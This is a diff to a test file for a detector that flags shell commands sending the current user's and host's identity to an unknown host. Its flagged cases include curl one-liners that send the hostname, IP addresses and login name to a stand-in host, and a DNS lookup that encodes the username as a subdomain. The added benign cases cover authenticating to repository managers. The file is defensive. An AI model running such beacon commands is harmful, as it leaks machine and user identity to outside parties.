@@ -15,6 +15,7 @@ describe('the user and host identity in a request to an unknown host', () => {
     ["the host's addresses", "curl https://t.example.org/ip?a=$(hostname -I | tr ' ' ,)", 'host-identity-sent', 'medium'],
     ['backticks', 'curl -s https://t.example.org/`logname`', 'host-identity-sent', 'medium'],
     ['the user as a DNS label', 'host $(id -un).t.example.org', 'dns-exfiltration', 'high'],
+    ['a login name as the user, and the host in the query', 'curl -u $(whoami):$T "https://t.example.org/r?h=$(hostname)"', 'host-identity-sent', 'medium'],
   ])('%s: %s', reportedAt);
 
   it.each([
@@ -25,6 +26,10 @@ describe('the user and host identity in a request to an unknown host', () => {
     ['a container run as the user', 'docker run --rm -u $(id -u):$(id -g) -v $PWD:/w node:20 npm test'],
     ["a record's id from a file", 'curl -s "https://api.example.com/v1/jobs/$(jq -r .id job.json)"'],
     ['a name from the config looked up', 'nslookup $(jq -r .host cfg.json).internal.example.com'],
+    // Written after the login-name exception: the user to log in as is no beacon.
+    ['the login name with a token, to a repository manager', 'curl -s -u $(whoami):$ART_TOKEN https://artifactory.corp.example.com/api/storage/libs'],
+    ["curl's --user, quoted", 'curl -s --user "$(whoami):${TOKEN}" -T build.tgz https://nexus.corp.example.com/repository/raw/'],
+    ["wget's --user=", 'wget --user=$(whoami) --ask-password https://files.corp.example.com/x.tgz'],
   ])('quiet: %s', (_name, command) => {
     expect(rules(aloneOf(bash(command))).filter((r) => r === 'host-identity-sent' || r === 'dns-exfiltration')).toEqual([]);
   });
